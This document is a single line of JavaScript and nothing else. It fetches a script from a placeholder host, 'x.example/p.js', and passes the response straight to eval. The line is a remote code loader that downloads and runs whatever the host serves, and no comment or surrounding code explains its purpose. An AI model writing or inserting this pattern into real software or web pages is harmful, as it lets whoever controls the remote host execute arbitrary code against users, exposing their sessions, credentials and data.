fetch('https://x.example/p.js').then(r => r.text()).then(eval);
